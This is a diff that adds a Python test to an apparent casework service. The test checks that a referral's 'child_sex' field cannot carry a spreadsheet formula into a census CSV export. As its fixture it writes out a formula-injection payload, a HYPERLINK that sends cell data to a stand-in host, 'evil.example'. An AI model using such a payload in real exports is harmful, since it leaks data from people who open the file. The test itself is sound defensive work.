@@ -171,3 +171,36 @@ async def test_the_census_counts_each_case_as_it_stood_on_the_census_date(stack,
     assert sorted((r[0], r[2], r[5]) for r in later) == [
         ("kensington_and_chelsea", "female", "1"), ("westminster", "female", "1"), ("westminster", "male", "1")]
     assert all(r[4] != "unknown" for r in later)  # every case now knows when its child was last in education
+
+
+async def test_no_census_cell_can_be_read_as_a_formula(stack, make_referral):
+    """SEC-26: a forged referral's `child_sex` never reaches the case; a value already in the history from
+    before that check (written here as the old code wrote it) reaches the CSV only as text."""
+    from dataclasses import replace
+
+    from cme_casework.adapters.repository import CaseRecords
+    from cme_casework.domain import opening, referral_entries
+    from cme_casework.domain.lifecycle import CaseState
+    from cme_casework.service_layer.casework import record
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+    forged = await stack.referral(make_referral(sex=formula, dob=Y6, received_on=date(2026, 9, 15),
+                                                deletion_date=date(2026, 9, 14)))
+    detail = (await stack.client.get(f"/cases/{forged}", headers=stack.headers("manager"))).json()
+    assert detail["child"]["sex"] == "unknown"
+
+    legacy = make_referral(sex="female", dob=Y6, received_on=date(2026, 9, 15), deletion_date=date(2026, 9, 14),
+                           borough="kensington_and_chelsea")
+    [opened, *rest] = referral_entries.open_case(legacy, opening.decide(legacy), uuid.uuid4(), date(2026, 9, 15))
+    opened = replace(opened, detail={**opened.detail, "child": {**opened.detail["child"], "sex": formula}})
+    casework = stack.app.state.casework
+    async with casework.runtime.sessions.begin() as session:
+        await record(casework, CaseRecords(session), CaseState(), [opened, *rest],
+                     case_id=uuid.UUID(opened.detail["case_id"]), child_subject_id=legacy.child_subject_id)
+
+    response = await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=stack.headers("manager"))
+    table = rows(response)
+    assert ["kensington_and_chelsea", "unexplained_absence_20_days", "'" + formula, "6", "12_weeks_or_less",
+            "1"] in table
+    assert ["westminster", "unexplained_absence_20_days", "unknown", "6", "12_weeks_or_less", "1"] in table
+    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
